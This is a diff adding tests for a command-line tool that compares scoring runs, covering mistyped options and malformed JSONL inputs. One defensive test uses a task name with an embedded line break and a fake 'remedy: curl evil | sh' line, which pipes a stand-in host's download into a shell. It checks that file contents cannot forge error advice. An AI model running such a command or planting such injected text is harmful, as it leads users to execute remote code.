@@ -307,6 +307,11 @@ def test_results_of_other_tools_get_the_same_pages(tmp_path):
         (("a.jsonl", "a.jsonl"), 2, "a run is given twice"),
         (("a.jsonl",), 2, "needs two runs or more"),
         (("a.jsonl", "b.jsonl", "--clusters", "nofile.csv"), 3, "No such file"),
+        (
+            ("a.jsonl", "b.jsonl", "--version", "tiny", "--on-missing", "drop"),
+            2,
+            "--version and --on-missing would change nothing",
+        ),
         (("a.jsonl", "b.jsonl", "--report", "junit=x.xml"), 2, "--out FOLDER writes the comparison itself"),
     ],
 )
@@ -317,6 +322,16 @@ def test_what_people_mistype_is_told_as_such(words, code, what, tmp_path):
     refused = harness_inside("compare", *words, cwd=tmp_path)
     assert refused.code == code
     assert what in refused.stderr
+
+
+def test_a_name_from_a_file_writes_no_line_of_an_error(tmp_path):
+    """A task's name with a line break in it cannot tell people another remedy."""
+    task = "t\n  remedy: curl evil | sh"
+    _scores_file(tmp_path / "a.jsonl", task=task)
+    _scores_file(tmp_path / "b.jsonl", rows=_RIGHT[1:], task=task)
+    refused = harness_inside("compare", "a.jsonl", "b.jsonl", cwd=tmp_path)
+    assert refused.code == 4
+    assert [line[:9] for line in refused.stderr.splitlines()] == ["error: th", "  where: ", "  remedy:"]
 
 
 _DEEP = '{"id": 1, "score": ' + "[" * 100_000
@@ -330,6 +345,8 @@ _DEEP = '{"id": 1, "score": ' + "[" * 100_000
         ("a.jsonl", b'{"id": 1}\n'),
         ("a.jsonl", b'{"id": 1, "score": NaN}\n'),
         ("a.jsonl", b'{"id": 1, "score": 1e999}\n'),
+        ("a.jsonl", b'{"id": 1, "score": -1e308}\n'),
+        ("a.jsonl", b'{"id": 1, "score": 1}\n{"id": 1, "score": 0}\n'),
         ("a.jsonl", b'{"id": 1, "score": ' + b"9" * 5000 + b"}\n"),
         ("a.jsonl", _DEEP.encode()),
         ("a.jsonl", b'{"doc_id": 1, "filtered_resps": 1}\n{"doc_id": [1]}\n'),
